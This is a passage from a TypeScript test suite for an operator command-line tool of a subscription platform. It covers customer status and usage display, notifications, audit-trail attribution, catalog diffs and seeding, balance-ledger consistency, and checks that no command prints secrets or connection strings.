      expect((await sql`SELECT count(*)::int AS n FROM operator_actions`)[0]?.n).toBe(before?.n)
    })
  })
})

describe('ops customers: the status and usage columns', () => {
  it.each([
    { given: 'a trialing subscription', subscription: 'trialing', status: 'trial' },
    { given: 'an active subscription', subscription: 'active', status: 'active' },
    { given: 'a past_due subscription', subscription: 'past_due', status: 'past due' },
    { given: 'a canceled subscription', subscription: 'canceled', status: 'canceled' },
    { given: 'an unpaid subscription', subscription: 'unpaid', status: 'canceled' },
    { given: 'no subscription', subscription: null, status: 'no subscription' },
  ])('a customer with $given shows as "$status"', async ({ subscription, status }) => {
    const { customerId, email } = await customerOnPlan({ subscription })
    const rows = tableRows((await ops('customers', email)).stdout)
    const plan = subscription === null ? '' : expect.stringMatching(/^tiny-/)
    expect(rows).toEqual([expect.objectContaining({ email, plan, status, id: customerId })])
    expect((await opsJson('customers', email)).customers).toEqual([
      expect.objectContaining({ status, subscription_status: subscription }),
    ])
  })

  it.each<{ limits: Record<string, number>; usage: string }>([
    { limits: { messages: 1000, tokens: 50_000 }, usage: '150/1000 msg, 3000/50000 tok' },
    { limits: { messages: 100 }, usage: '150/100 msg, 3000 tok' },
    { limits: {}, usage: '150 msg, 3000 tok' },
  ])('usage this period against the limits $limits reads "$usage"', async ({ limits, usage }) => {
    const { customerId, email } = await customerOnPlan({ limits })
    const agentId = await agentOf(customerId, 'Helpdesk')
    await recordUsage(customerId, agentId, { messages: 150, inputTokens: 1000, outputTokens: 2000 })
    await recordUsage(customerId, agentId, { messages: 9999, inputTokens: 9999, outputTokens: 9999 }, 'previous')
    const rows = tableRows((await ops('customers', email)).stdout)
    expect(rows).toEqual([expect.objectContaining({ email, usage, balance: '$0.00', agents: '1/1 on' })])
    expect((await opsJson('customers', email)).customers[0]).toMatchObject({
      usage: { messages: 150, tokens: 3000, input_tokens: 1000, output_tokens: 2000 },
      limits,
    })
  })
})

describe('ops customer: the last notifications', () => {
  it("shows the customer's five latest, newest first, with kind, status and subject but no body", async () => {
    const { customerId, email } = await customerOnPlan()
    const other = await customerOnPlan()
    const kinds = ['trial_ending', 'trial_ended', 'payment_failed', 'grace_started', 'grace_ended', 'agents_reenabled']
    const statuses = ['sent', 'failed', 'pending']
    for (const [i, kind] of kinds.entries()) {
      const status = statuses[i % 3]
      await notification(customerId, { kind, status, subject: `Notice ${i}`, body: `body ${i}`, minutesAgo: 60 - i })
    }
    await notification(other.customerId, { subject: 'Not theirs' })

    const { notifications } = await opsJson('customer', email)
    expect(notifications).toEqual(
      [5, 4, 3, 2, 1].map((i) => ({
        at: expect.stringMatching(ISO_TIME),
        kind: kinds[i],
        status: statuses[i % 3],
        subject: `Notice ${i}`,
      })),
    )
    const printed = await ops('customer', email)
    expect(section(printed.stdout, 'Notifications (latest)')).toMatch(/^at\s+kind\s+status\s+subject\n/)
    expect(tableRows(section(printed.stdout, 'Notifications (latest)'))).toEqual(notifications)
    expect(printed.stdout).not.toMatch(/body \d|Not theirs|Notice 0/)
    expect(section((await ops('customer', other.email)).stdout, 'Notifications (latest)')).toMatch(/Not theirs/)
    const quiet = await customerOnPlan()
    expect(section((await ops('customer', quiet.email)).stdout, 'Notifications (latest)')).toBe('(none)')
  })
})

describe('ops: who the audit trail names', () => {
  it.each([
    { given: 'OPERATOR is not set', operator: undefined },
    { given: 'OPERATOR is blank', operator: '   ' },
  ])('the OS user when $given', async ({ operator }) => {
    const { customerId, email } = await lapsedCustomer()
    const { OPERATOR: _set, ...rest } = env
    const environment = operator === undefined ? rest : { ...rest, OPERATOR: operator }
    expect((await opsIn(environment, 'credit', email, '5', '--reason', 'goodwill')).code).toBe(EXIT.ok)
    const [action] = await sql`SELECT operator FROM operator_actions WHERE customer_id = ${customerId}`
    expect(action?.operator).toBe(userInfo().username)
    expect(action?.operator).not.toBe(env.OPERATOR)
  })
})

describe('ops catalog diff', () => {
  type DemoCatalog = {
    plans: { slug: string; price_cents: number; limits: Record<string, number> }[]
    agent_types: { slug: string; onboarding_schema: { steps: { title: string }[] } }[]
    integration_providers: Record<string, unknown>[]
  }
  const demo = async () => JSON.parse(await readFile(DEMO_CATALOG, 'utf8')) as DemoCatalog
  const writeCatalog = async (name: string, catalog: unknown) => {
    const file = join(catalogDir, name)
    await writeFile(file, typeof catalog === 'string' ? catalog : JSON.stringify(catalog, null, 2))
    return file
  }
  const NEW_PROVIDER_SECRET = 'catalog-client-secret-DO-NOT-PRINT'

  it('a file identical to the database shows no changes, with each onboarding schema validated', async () => {
    const json = await opsJson('catalog', 'diff', DEMO_CATALOG)
    expect(json).toMatchObject({ valid: true, has_changes: false, client_secrets_skipped: [] })
    for (const kind of ['plans', 'agent_types', 'billing_settings', 'integration_providers']) {
      expect(json[kind]).toMatchObject({ added: [], changed: [] })
    }
    expect(json.plans.unchanged).toEqual(['trial', 'starter', 'pro'])
    expect(json.integration_providers.unchanged).toEqual(['demo-docs'])
    expect(json.onboarding_schemas).toEqual([
      { agent_type: 'customer-support', steps: 3, fields: 7 },
      { agent_type: 'sales-assistant', steps: 2, fields: 5 },
    ])
    const text = await ops('catalog', 'diff', DEMO_CATALOG)
    expect(text.code).toBe(EXIT.ok)
    expect(text.stdout).toContain('No changes: the database already matches the file.')
    expect(text.stdout).toContain('Onboarding schemas valid: customer-support, sales-assistant.')
    expect(text.stdout).toContain('plans: 0 added, 0 changed, 3 unchanged')
    expect(text.stdout).not.toContain('Apply with')
  })

  it('shows added and changed items field by field (before → after), writes nothing, and agrees with the seed', async () => {
    const catalog = await demo()
    const starter = catalog.plans.find((p) => p.slug === 'starter') as DemoCatalog['plans'][number]
    starter.price_cents = 5900
    starter.limits.messages = 6000
    catalog.plans.push({ slug: 'enterprise', name: 'Enterprise', price_cents: 99900, limits: {} } as never)
    const salesBasics = catalog.agent_types[1]?.onboarding_schema.steps[0] as { title: string }
    salesBasics.title = 'Basics'
    catalog.integration_providers.push({
      slug: 'crm-docs',
      name: 'CRM Docs',
      authorize_url: 'https://crm.example.com/oauth/authorize',
      token_url: 'https://crm.example.com/oauth/token',
      client_id: 'echoforge',
      client_secret: NEW_PROVIDER_SECRET,
    })
    const file = await writeCatalog('changed.json', catalog)

    const json = await opsJson('catalog', 'diff', file)
    expect(json.has_changes).toBe(true)
    expect(json.plans.changed).toEqual([
      {
        key: 'starter',
        changes: [
          { field: 'price_cents', before: 4900, after: 5900 },
          { field: 'limits.messages', before: 5000, after: 6000 },
        ],
      },
    ])
    expect(json.plans.added).toEqual([
      {
        key: 'enterprise',
        values: expect.objectContaining({ name: 'Enterprise', price_cents: 99900, is_active: true }),
      },
    ])
    expect(json.agent_types.changed).toEqual([
      {
        key: 'sales-assistant',
        changes: [{ field: 'onboarding_schema.steps.0.title', before: 'Basic Info', after: 'Basics' }],
      },
    ])
    expect(json.integration_providers.added).toEqual([
      { key: 'crm-docs', values: expect.objectContaining({ client_id: 'echoforge', client_secret: '(set)' }) },
    ])
    expect(json.plans.unchanged).toEqual(['trial', 'pro'])

    const text = await ops('catalog', 'diff', file)
    expect(text.code).toBe(EXIT.ok)
    expect(text.stdout).toMatch(/^kind\s+item\s+status\s+field\s+change$/m)
    expect(text.stdout).toMatch(/plan\s+starter\s+changed\s+price_cents\s+4900 → 5900/)
    expect(text.stdout).toMatch(/\s+limits\.messages\s+5000 → 6000/)
    expect(text.stdout).toMatch(/plan\s+enterprise\s+added\s+name\s+"Enterprise"/)
    expect(text.stdout).toMatch(
      /agent type\s+sales-assistant\s+changed\s+onboarding_schema\.steps\.0\.title\s+"Basic Info" → "Basics"/,
    )
    expect(text.stdout).toContain('plans: 1 added, 1 changed, 2 unchanged')
    expect(text.stdout).toContain(`Apply with: npm run seed -- ${file}`)
    for (const output of [text.stdout, JSON.stringify(json)]) expect(output).not.toContain(NEW_PROVIDER_SECRET)

    const [price] = await sql`SELECT price_cents FROM plans WHERE slug = 'starter'`
    expect(price?.price_cents).toBe(4900)
    expect(await sql`SELECT 1 FROM plans WHERE slug = 'enterprise'`).toHaveLength(0)

    // What the diff reported is what the seed writes: after seeding, the same file shows no changes.
    const seeded = await seedFromFile(local.databaseUrl, file, { encryptionKeys: [KEY] })
    expect(seeded.written).toBe(4)
    expect((await opsJson('catalog', 'diff', file)).has_changes).toBe(false)
    const [secret] = await sql<{ client_secret: string }[]>`
      SELECT client_secret FROM integration_providers WHERE slug = 'crm-docs'`
    expect(await createFernet(KEY).decrypt(secret?.client_secret as string)).toBe(NEW_PROVIDER_SECRET)

    // Back to the demo catalog; the items only the other file had are now only in the database.
    await seedFromFile(local.databaseUrl, DEMO_CATALOG, { encryptionKeys: [KEY] })
    const back = await opsJson('catalog', 'diff', DEMO_CATALOG)
    expect(back).toMatchObject({ has_changes: false })
    expect(back.plans.only_in_database).toContain('enterprise')
    expect((await ops('catalog', 'diff', DEMO_CATALOG)).stdout).toMatch(
      /plan\s+enterprise\s+only in database\s+\(the seed leaves it\)/,
    )
  })

  it('an invalid onboarding schema exits 1 naming the agent type and the problem; the seed refuses it too', async () => {
    const catalog = await demo()
    catalog.agent_types.push({
      slug: 'broken-bot',
      name: 'Broken',
      onboarding_schema: { steps: [{ id: 'basics', fields: [{ name: 'tone', type: 'select' }] }] },
    } as never)
    catalog.plans[0] = { ...(catalog.plans[0] as DemoCatalog['plans'][number]), price_cents: -1 }
    const file = await writeCatalog('invalid.json', catalog)

    const text = await ops('catalog', 'diff', file)
    expect(text.code).toBe(EXIT.failed)
    expect(text.stdout).toBe('')
    expect(text.stderr).toContain(`${file} is not a valid catalog (2 problems):`)
    expect(text.stderr).toContain(
      'agent type "broken-bot": onboarding_schema steps.0.fields.0.options: a select field needs at least one option',
    )
    expect(text.stderr).toContain('plan "trial": price_cents: Too small')
    const json = await ops('catalog', 'diff', file, '--json')
    expect(json.code).toBe(EXIT.failed)
    expect(JSON.parse(json.stdout)).toEqual({
      valid: false,
      problems: [
        expect.stringContaining('plan "trial": price_cents'),
        'agent type "broken-bot": onboarding_schema steps.0.fields.0.options: a select field needs at least one option',
      ],
    })

    await expect(seedFromFile(local.databaseUrl, file, { encryptionKeys: [KEY] })).rejects.toBeInstanceOf(
      CatalogFileError,
    )
    expect(await sql`SELECT 1 FROM agent_types WHERE slug = 'broken-bot'`).toHaveLength(0)
  })

  it('missing or unparsable files, bad usage and help; runs as `node scripts/ops.ts`', async () => {
    const missing = await ops('catalog', 'diff', join(catalogDir, 'nope.json'))
    expect(missing.code).toBe(EXIT.notFound)
    expect(missing.stderr).toContain('No catalog file at')
    const garbled = await ops('catalog', 'diff', await writeCatalog('garbled.json', '{"plans": ['))
    expect(garbled.code).toBe(EXIT.failed)
    expect(garbled.stderr).toContain('is not valid JSON')
    const typo = await ops('catalog', 'diff', await writeCatalog('typo.json', { plan: [] }))
    expect(typo.code).toBe(EXIT.failed)
    expect(typo.stderr).toContain('Unrecognized key: "plan"')
    expect((await ops('catalog', 'diff')).code).toBe(EXIT.usage)
    expect((await ops('catalog', 'apply', DEMO_CATALOG)).code).toBe(EXIT.usage)
    expect((await ops('catalog', 'diff', DEMO_CATALOG, 'extra')).code).toBe(EXIT.usage)
    const help = await ops('catalog', '--help')
    expect(help.code).toBe(EXIT.ok)
    expect(help.stdout).toContain('Usage: ops catalog diff <file> [--json]')
    expect((await ops('--help')).stdout).toContain('catalog diff <file>')

    const child = await run(['catalog', 'diff', DEMO_CATALOG, '--json'])
    expect(child.stderr).toBe('')
    expect(child.code).toBe(0)
    expect(JSON.parse(child.stdout).has_changes).toBe(false)
    const childInvalid = await run(['catalog', 'diff', join(catalogDir, 'invalid.json')])
    expect(childInvalid.code).toBe(EXIT.failed)
    expect(childInvalid.stderr).toContain('broken-bot')
  })
})

describe('the balance ledger', () => {
  it('balance equals the ledger sum after any sequence of top-ups, overage charges and operator credits', async () => {
    const { customerId, email, billingOffId } = await lapsedCustomer()
    const { db } = handle
    const ref = await findCustomer(db, email)
    const step = fc.oneof(
      fc.record({ kind: fc.constant('top_up' as const), cents: fc.integer({ min: 1, max: 5000 }) }),
      fc.record({ kind: fc.constant('credit' as const), cents: fc.integer({ min: 1, max: 5000 }) }),
      fc.record({ kind: fc.constant('usage' as const), messages: fc.integer({ min: 1, max: 400 }) }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(step, { minLength: 1, maxLength: 8 }), async (steps) => {
        for (const s of steps) {
          if (s.kind === 'top_up') {
            await db.transaction((tx) =>
              addPrepaidCredit(tx, customerId, s.cents, {
                kind: 'top_up',
                stripeCheckoutSessionId: `cs_${crypto.randomUUID()}`,
              }),
            )
          } else if (s.kind === 'credit') {
            await creditCustomer(db, ref, s.cents, 'ops-test', 'property test')
          } else {
            const result = await ingestUsageBatch(db, [
              {
                agent_instance_id: billingOffId,
                request_id: crypto.randomUUID(),
                metrics: { messages: s.messages },
                timestamp: new Date().toISOString(),
              },
            ])
            expect(result.errors).toEqual([])
          }
        }
        const [check] = await sql<{ balance: number; ledger: number; last_after: number }[]>`
          SELECT coalesce(b.balance_cents, 0)::int AS balance,
                 (SELECT coalesce(sum(amount_cents), 0)::int FROM balance_ledger WHERE customer_id = ${customerId}) AS ledger,
                 (SELECT balance_after_cents FROM balance_ledger WHERE customer_id = ${customerId}
                  ORDER BY created_at DESC, id DESC LIMIT 1) AS last_after
          FROM customers c LEFT JOIN extra_usage_balances b ON b.customer_id = c.id WHERE c.id = ${customerId}`
        expect(check?.balance).toBe(check?.ledger)
        expect(check?.balance).toBeGreaterThanOrEqual(0)
      }),
      { numRuns: 12 },
    )
    const kinds = await sql`SELECT DISTINCT kind FROM balance_ledger WHERE customer_id = ${customerId} ORDER BY kind`
    expect(kinds.map((k) => k.kind)).toContain('overage_charge')
    const [charge] =
      await sql`SELECT period_start FROM balance_ledger WHERE customer_id = ${customerId} AND kind = 'overage_charge' LIMIT 1`
    expect(charge?.period_start).toBeInstanceOf(Date)
  })
})

describe('nothing secret printed', () => {
  it('no output of any command holds the integration token or its ciphertext', async () => {
    await lapsedCustomer('secret-holder@example.com')
    for (const argv of [
      ['customers'],
      ['customer', 'secret-holder@example.com'],
      ['log'],
      ['usage', 'export'],
      ['documents', 'failed'],
      ['notifications', 'failed'],
      ['catalog', 'diff', DEMO_CATALOG],
    ]) {
      await ops(...argv)
      await ops(...argv, '--json')
    }
    expect(outputs.length).toBeGreaterThan(20)
    for (const text of outputs) {
      expect(text).not.toContain(SECRET_TOKEN)
      expect(text).not.toContain(ciphertext)
      expect(text).not.toContain(ciphertext.slice(0, 40))
      // The demo catalog's provider client secret, and the stored Fernet token of it.
      expect(text).not.toContain('demo-client-secret')
      expect(text).not.toMatch(/gAAAAA/)
    }
  })
})

describe('ops: a database it cannot reach', () => {
  it('exits 1 with the driver’s reason, never the connection string or its password', async () => {
    const unreachable = {
      DATABASE_URL: 'postgres://ops:hunter2-password@127.0.0.1:1/postgres',
      LOCAL_WS_PROXY: '127.0.0.1:1',
    }
    const err: string[] = []
    const code = await runOps(['customers'], { env: unreachable, out: () => {}, err: (t) => err.push(t) })
    expect(code).toBe(EXIT.failed)
    expect(err.join('\n')).toMatch(/^ops customers failed: \S/)
    expect(err.join('\n')).not.toMatch(/Failed query|hunter2|postgres:\/\//)
  })
})
